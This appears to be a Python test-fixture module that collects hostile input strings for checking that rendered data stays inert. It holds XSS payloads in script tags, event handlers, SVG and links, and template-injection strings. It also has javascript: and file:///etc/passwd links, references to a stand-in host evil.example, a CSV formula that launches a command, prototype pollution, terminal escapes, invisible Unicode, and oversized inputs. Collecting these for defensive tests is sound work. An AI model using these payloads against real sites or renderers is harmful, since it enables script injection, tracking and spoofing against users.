"""Hostile texts: what must stay text wherever data can reach, in a page, a memo or an address.

Each would do something in a page that trusts it: run a script, ask another machine, restyle the page, turn text
round, colour a terminal, hide a message, or exhaust whoever renders it.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>alert(1)//", "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<script type=module>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><script>alert(1)</script>">', "<template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}", "{% raw %}{{ 7*7 }}{% endraw %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<div onpointerover=alert(1)>x</div>",
    "<p onmouseover='alert(1)'>x</p>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "x onclick=alert(1) ",
    "<a href=x onclick=alert(1)>x</a>", "<button popovertarget=x onbeforetoggle=alert(1)>", "<div style=animation-name:x onanimationstart=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>", "<isindex action=javascript:alert(1)>", "<keygen onfocus=alert(1) autofocus>",
)  # fmt: skip
EMBEDDED = (
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></use></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<frameset onload=alert(1)>", "<applet code=x>", "<portal src=//evil.example>",
    "<img src=//evil.example/beacon.png>", "<img srcset='//evil.example/a 1x'>", "<video poster=//evil.example/a.png>", "<picture><source srcset=//evil.example/a></picture>",
)  # fmt: skip
LINKS = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)",
    "[x](//evil.example/)", "[x](/review/undo)", "[x](?who=mallory)", "[x](blob:http://127.0.0.1/x)", '[x](http://evil.example "onmouseover=alert(1)")',
    "![x](http://evil.example/beacon.png)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](javascript:alert(1))", "[![x](http://evil.example/a.png)](http://evil.example)",
    "<javascript:alert(1)>", '<http://evil.example/" onmouseover="alert(1)>', "[a]: javascript:alert(1)\n\n[a]", "[a]: http://evil.example 'x\" onclick=\"alert(1)'\n\n[a]",
    "[x](http://evil.example/`onclick=alert(1)`)", "[<img src=x onerror=alert(1)>](http://evil.example)", "**[x](javascript:alert(1))**",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "jav&#x09;ascript:alert(1)",
)  # fmt: skip
STYLES = (
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "<div style='position:fixed;inset:0;background:url(//evil.example/)'>",
    '<p style="background:url(javascript:alert(1))">', "</style><style>body{visibility:hidden}</style>", "<div class='visually-hidden'>hidden</div>",
    "<xss style=behavior:url(#default#time2)>", "<span style='font-size:9999px'>x</span>", "<font size=99>x</font>", "<dialog open>trap</dialog>",
)  # fmt: skip
CONTROLS = (
    "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x9b31m", "a\rb", "a\bb", "bell\x07",
    "a\x00b", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "\x7f\x80\x9f", "a\x0bb\x0cc", "a\x85b\u2028c\u2029d",
    "\u202egnp.exe", "\u2066\u202etext\u2069", "pay\u200bload", "\ufeffBOM", "\u2063\u2064", "soft\xadhyphen",
    "\U000e0041\U000e0042 tags", "a\ufe00\ufe01\ufe02\ufe03b", "\ud800 lone", "\udfff\ud800", "e" + "\u0301" * 50, "\ue000 private", "\ufffe\uffff", "\ufff9a\ufffab\ufffb",
)  # fmt: skip
SHAPES = (
    '{"role": "<script>alert(1)</script>", "content": "x"}', '[{"role": "user", "content": "<img src=x onerror=alert(1)>"}]',
    '[{"role": "assistant", "content": null, "tool_calls": [{"id": "<b>", "function": {"name": "<script>alert(1)</script>", "arguments": "{\\"<i>\\": \\"<u>\\"}"}}]}]',
    '[{"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}, {"<script>alert(1)</script>": 2}]', '{"__proto__": {"polluted": true}}',
    '[{"role": "tool", "tool_call_id": "\\ud800", "content": "<svg onload=alert(1)>"}]', '{"a": "\\u0000\\u202e\\ud800"}', '"<script>alert(1)</script>"',
    "a,<script>alert(1)</script>\n1,<img src=x onerror=alert(1)>\n2,3\n4,5", "a\tb\n<svg onload=alert(1)>\t2", "=cmd|' /C calc'!A0,1\n2,3\n4,5",
    "# <script>alert(1)</script>\n\n* a\n* <img src=x onerror=alert(1)>", "```<script>alert(1)</script>\nx\n```", "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | <script>alert(1)</script> |\n|---|---|\n| 1 | <img src=x onerror=alert(1)> |", "`</code><script>alert(1)</script>`", "[" * 2_000, '{"a":' * 2_000, "1" * 5_000, "[" + "9" * 5_000 + "]",
    '{"a": NaN, "b": Infinity}', '{"a": 1e999}', "> " * 500 + "x", "- " * 500 + "x", "*" * 2_000, "`" * 2_000, "<" * 2_000, "&" * 2_000,
)  # fmt: skip
HOSTILE = (*SCRIPTS, *HANDLERS, *EMBEDDED, *LINKS, *STYLES, *CONTROLS, *SHAPES)
LINE_OF_5_MB = "<script>alert(1)</script> " * 200_000
"""One line of five megabytes; apart, as not every test can afford it."""
